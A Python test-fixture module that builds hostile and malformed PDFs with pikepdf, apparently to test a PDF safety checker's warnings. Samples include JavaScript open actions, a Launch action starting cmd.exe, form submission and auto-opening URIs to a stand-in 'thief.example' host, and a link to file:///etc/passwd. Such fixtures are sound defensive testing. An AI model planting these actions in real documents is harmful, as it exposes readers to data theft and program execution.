"""PDFs as strangers send them, made by programs we did not write (qpdf through pikepdf, pyHanko) and by hand."""

from __future__ import annotations

from collections.abc import Callable
from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String


def plain(change: Callable[[Pdf], object] = lambda _pdf: None, **saved: object) -> bytes:
    """A page with a rectangle on it; `change` may spoil it."""
    pdf = Pdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    pdf.pages[0].Contents = pdf.make_stream(b"0 0 1 rg 20 20 100 100 re f")
    change(pdf)
    out = BytesIO()
    pdf.save(out, **saved)
    return out.getvalue()


def _action(**of: object) -> Callable[[Pdf], None]:
    def change(pdf: Pdf) -> None:
        pdf.Root.OpenAction = pdf.make_indirect(Dictionary(Type=Name.Action, **of))

    return change


def annotation(**of: object) -> Callable[[Pdf], None]:
    """Lays something over the page."""

    def change(pdf: Pdf) -> None:
        pdf.pages[0].Annots = Array([pdf.make_indirect(Dictionary(Type=Name.Annot, Rect=[0, 0, 50, 50], **of))])

    return change


def _attachment(pdf: Pdf) -> None:
    pdf.attachments["other.txt"] = b"another document"


def _page_script(pdf: Pdf) -> None:
    pdf.pages[0].AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))


def _xfa(pdf: Pdf) -> None:
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=String("<xdp/>"))


def _field(pdf: Pdf) -> None:
    field = pdf.make_indirect(Dictionary(FT=Name.Tx, T=String("price"), V=String("1")))
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))


def _hidden_layer(pdf: Pdf) -> None:
    layer = pdf.make_indirect(Dictionary(Type=Name.OCG, Name=String("small print")))
    pdf.Root.OCProperties = Dictionary(OCGs=Array([layer]), D=Dictionary(OFF=Array([layer])))


def _orphan_script(pdf: Pdf) -> None:
    pdf.Root.Later = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))


def locked() -> bytes:
    """Encrypted, opened by anybody."""
    return plain(encryption=pikepdf.Encryption(owner="owner", user=""))


def appended(first: bytes | None = None) -> bytes:
    """Page content replaced in a later revision, as an editor's quick save does."""
    first = first or plain()
    text = first[first.rindex(b"startxref") + 10 :].split()[0]
    start = len(first) + 1
    body = b"\n99 0 obj\n(another price)\nendobj\n"
    return (
        first
        + body
        + b"xref\n99 1\n%010d 00000 n\r\ntrailer\n<</Size 100/Root 1 0 R/Prev %s>>\nstartxref\n%d\n%%%%EOF\n"
        % (
            start,
            text,
            len(first) + len(body),
        )
    )


def forged_linearization() -> bytes:
    """An appended revision, and a note at the beginning that tells the right length."""
    note = "/Linearized 1 /L 0000000000"

    def change(pdf: Pdf) -> None:
        pdf.Root.Note = String(note)

    pdf = appended(plain(change))
    return pdf.replace(note.encode(), note.replace("0000000000", f"{len(pdf):010d}").encode())


HOSTILE: dict[str, tuple[bytes, str]] = {
    "a script when it opens": (plain(_action(S=Name.JavaScript, JS=String("app.alert(1)"))), "JavaScript"),
    "a script of a page": (plain(_page_script), "JavaScript|run by themselves"),
    "a script nothing points to but a stray key": (plain(_orphan_script), "JavaScript"),
    "a program to start": (plain(_action(S=Name.Launch, F=String("cmd.exe"))), "Launch"),
    "another file to open": (plain(_action(S=Name.GoToR, F=String("other.pdf"), D=Array([0, Name.Fit]))), "GoToR"),
    "a form to send somewhere": (plain(_action(S=Name.SubmitForm, F=String("http://thief.example"))), "SubmitForm"),
    "a web page that opens by itself": (plain(_action(S=Name.URI, URI=String("http://thief.example"))), "when it is opened"),
    "a link to a file of the machine": (
        plain(annotation(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("file:///etc/passwd")))),
        "no web page",
    ),
    "an embedded file": (plain(_attachment), "embedded file|another file"),
    "an XFA form": (plain(_xfa), "XFA"),
    "a field to fill in": (plain(_field), "fill in"),
    "a note over the page": (plain(annotation(Subtype=Name.FreeText, Contents=String("0 đ"))), "FreeText"),
    "rich media": (plain(annotation(Subtype=Name.RichMedia)), "RichMedia"),
    "a hidden layer": (plain(_hidden_layer), "hidden layers"),
    "encryption": (locked(), "encrypted"),
    "encryption inside object streams": (
        plain(object_stream_mode=pikepdf.ObjectStreamMode.generate, encryption=pikepdf.Encryption(owner="o", user="")),
        "encrypted",
    ),
    "a script inside an object stream": (
        plain(_page_script, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "JavaScript|run by themselves",
    ),
    "an appended revision": (appended(), "revisions"),
    "a revision that says it is for the web": (forged_linearization(), "revisions"),
    "bytes after the end": (plain() + b"<html>", "after its end"),
    "two documents in a row": (plain() + plain(), "."),
    "bytes before the header": (b"\n" + plain(), "not a PDF"),
    "half a file": (plain()[:-200], "."),
    "an empty file": (b"", "not a PDF"),
    "no PDF": (b"PK\x03\x04", "not a PDF"),
    "a header and nothing else": (b"%PDF-1.7\n", "."),
}
